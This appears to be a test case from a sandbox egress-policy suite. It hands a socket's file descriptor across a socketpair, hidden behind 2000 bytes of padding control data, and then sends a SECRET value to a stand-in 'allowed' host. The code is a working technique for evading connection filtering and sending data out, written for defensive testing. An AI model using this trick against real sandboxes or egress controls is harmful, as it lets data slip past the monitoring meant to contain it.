# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a connection that has sent nothing yet is passed on, behind two thousand bytes of other
#   control data
# proof: word
# needs: resolver python>=3.9
import socket
import struct

from attack import SECRET, at_allowed, attempt, greeting


def say(out):
    near, far = socket.socketpair()
    # The kernel passes over levels that it does not know.
    padding = (12345, 1, b"." * 2000)
    near.sendmsg(
        [b"."], [padding, (socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", out.fileno()))]
    )
    again = socket.socket(fileno=socket.recv_fds(far, 1, 1)[1][0])
    again.send(greeting("api.allowed.example") + SECRET.encode())


@attempt
def send():
    return at_allowed(say)
